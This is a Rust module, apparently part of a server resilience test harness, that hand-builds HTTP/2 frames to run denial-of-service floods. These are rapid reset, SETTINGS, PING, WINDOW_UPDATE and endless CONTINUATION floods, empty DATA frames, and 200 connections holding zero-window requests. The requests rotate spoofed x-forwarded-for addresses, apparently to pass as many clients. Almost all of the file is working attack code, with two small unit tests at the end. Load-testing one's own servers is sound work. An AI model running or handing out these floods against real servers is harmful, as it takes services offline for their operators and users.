//! Attacks over HTTP/2, which a server with TLS supports. Frames are encoded by hand as in RFC
//! 9113.

use std::net::IpAddr;
use std::sync::Arc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

use crate::fairness::door::{Door, End, Stream, stated};
use crate::fairness::field::{Field, again, v4};

/// The client's connection preface.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Bytes given to the kernel at once.
const PIECE_BYTES: usize = 32 << 10;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn put(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).unwrap_or(0);
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// `GET path` from this address, with headers of the static table and three literal ones.
fn request(path: &str, from: Option<IpAddr>) -> Vec<u8> {
    let literal = |out: &mut Vec<u8>, name: &[u8], value: &str| {
        out.extend_from_slice(name);
        out.push(u8::try_from(value.len()).unwrap_or(0));
        out.extend_from_slice(value.as_bytes());
    };
    // Method and scheme; then path and authority by their indices in the table.
    let mut block = vec![0x82, 0x87];
    literal(&mut block, &[0x04], path);
    literal(&mut block, &[0x01], "fair");
    let from = stated(from);
    if let Some(address) = from.trim_end().split(": ").nth(1) {
        let mut name = vec![0x00, 15];
        name.extend_from_slice(b"x-forwarded-for");
        literal(&mut block, &name, address);
    }
    block
}

/// Numbers of the streams that a client may open.
fn stream(n: u64) -> u32 {
    u32::try_from(n % (1 << 29)).unwrap_or(0) * 2 + 1
}

/// Sends pieces endlessly on this many connections, and reads what arrives.
async fn pour(
    field: Arc<Field>,
    connections: u64,
    first: &'static [(u16, u32)],
    say: fn(&mut Vec<u8>, u64),
) -> Result<(), End> {
    // A server that does not support it is reported at once.
    drop(open(&field.door, first).await?);
    field.ready();
    let mut tasks = JoinSet::new();
    for _ in 0..connections {
        let field = field.clone();
        tasks.spawn(async move {
            let inner = field.clone();
            again(&field, move |_| one(inner.clone(), first, say)).await;
        });
    }
    tasks.join_all().await;
    Ok(())
}

/// Opens a connection with these settings.
///
/// # Errors
/// If it cannot be opened, or the server does not support HTTP/2.
pub(in crate::fairness) async fn open(door: &Door, first: &[(u16, u32)]) -> Result<Stream, End> {
    let mut stream = door.connect_h2().await?;
    let mut out = PREFACE.to_vec();
    let mut settings = Vec::new();
    for (name, value) in first {
        settings.extend_from_slice(&name.to_be_bytes());
        settings.extend_from_slice(&value.to_be_bytes());
    }
    put(&mut out, SETTINGS, 0, 0, &settings);
    stream.write_all(&out).await?;
    stream.flush().await?;
    Ok(stream)
}

async fn one(
    field: Arc<Field>,
    first: &[(u16, u32)],
    say: fn(&mut Vec<u8>, u64),
) -> Result<(), End> {
    let (mut reader, mut writer) = tokio::io::split(open(&field.door, first).await?);
    let write = async {
        let mut number = 0;
        let mut piece = Vec::new();
        loop {
            piece.clear();
            let before = number;
            while piece.len() < PIECE_BYTES {
                say(&mut piece, number);
                number += 1;
            }
            writer.write_all(&piece).await?;
            field.did(number - before, piece.len());
            tokio::task::yield_now().await;
        }
    };
    let read = async {
        let mut buffer = vec![0; 64 << 10];
        while reader.read(&mut buffer).await? > 0 {}
        Err(End::Broken)
    };
    tokio::select! {
        end = write => end,
        end = read => end,
    }
}

/// No window for answers: this setting's number is the initial window of a stream.
pub(in crate::fairness) const NO_WINDOW: &[(u16, u32)] = &[(4, 0)];

/// This many requests for a large file.
pub(in crate::fairness) fn requests(count: u64, from: Option<IpAddr>) -> Vec<u8> {
    let block = request("/sdk/tidings-rtm.tgz", from);
    let mut out = Vec::new();
    for at in 0..count {
        put(
            &mut out,
            HEADERS,
            END_HEADERS | END_STREAM,
            stream(at),
            &block,
        );
    }
    out
}

/// Requests that are cancelled at once.
pub(super) async fn rapid_reset(field: Arc<Field>) -> Result<(), End> {
    pour(field, 4, &[], |out, n| {
        let block = request("/docs/", v4(n));
        put(out, HEADERS, END_HEADERS | END_STREAM, stream(n), &block);
        put(out, RST_STREAM, 0, stream(n), &8_u32.to_be_bytes());
    })
    .await
}

/// Settings frames, each of which must be acknowledged.
pub(super) async fn settings(field: Arc<Field>) -> Result<(), End> {
    pour(field, 4, &[], |out, _| put(out, SETTINGS, 0, 0, &[])).await
}

/// Pings, each of which must be answered.
pub(super) async fn pings(field: Arc<Field>) -> Result<(), End> {
    pour(field, 4, &[], |out, n| {
        put(out, PING, 0, 0, &n.to_be_bytes())
    })
    .await
}

/// Window updates for the connection, a byte at a time.
pub(super) async fn windows(field: Arc<Field>) -> Result<(), End> {
    pour(field, 4, &[], |out, _| {
        put(out, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())
    })
    .await
}

/// A request's headers that never end.
pub(super) async fn continuations(field: Arc<Field>) -> Result<(), End> {
    pour(field, 4, &[], |out, n| match n {
        0 => put(out, HEADERS, 0, 1, &request("/docs/", v4(0))),
        // A header of 8 bytes, over and over.
        _ => put(
            out,
            CONTINUATION,
            0,
            1,
            &[0, 3, b'a', b'b', b'c', 2, b'x', b'y'],
        ),
    })
    .await
}

/// A request whose body arrives in empty frames.
pub(super) async fn empty_data(field: Arc<Field>) -> Result<(), End> {
    pour(field, 4, &[], |out, n| match n {
        0 => {
            let mut block = request("/v1/media/x", v4(0));
            // By index: the method POST.
            block[0] = 0x83;
            put(out, HEADERS, END_HEADERS, 1, &block);
        }
        _ => put(out, DATA, 0, 1, &[]),
    })
    .await
}

/// Requests for a file whose answers cannot be sent (a window of 0), on each of 200 connections.
pub(super) async fn no_window(field: Arc<Field>) -> Result<(), End> {
    drop(open(&field.door, NO_WINDOW).await?);
    field.ready();
    let mut tasks = JoinSet::new();
    for n in 0..200 {
        let field = field.clone();
        tasks.spawn(async move {
            let inner = field.clone();
            again(&field, move |_| {
                let field = inner.clone();
                async move {
                    let mut connection = open(&field.door, NO_WINDOW).await?;
                    let out = requests(100, v4(n / 10));
                    connection.write_all(&out).await?;
                    field.did(100, out.len());
                    let _held = field.hold();
                    let mut buffer = [0; 4096];
                    while connection.read(&mut buffer).await? > 0 {}
                    Err::<(), _>(End::Broken)
                }
            })
            .await;
        });
    }
    tasks.join_all().await;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_length_kind_flags_and_stream() {
        let mut out = Vec::new();
        put(&mut out, RST_STREAM, 0, 7, &8_u32.to_be_bytes());
        assert_eq!(out, [0, 0, 4, 3, 0, 0, 0, 0, 7, 0, 0, 0, 8]);
    }

    #[test]
    fn streams_of_a_client_are_odd_and_count_up() {
        assert_eq!([stream(0), stream(1), stream(2)], [1, 3, 5]);
    }
}
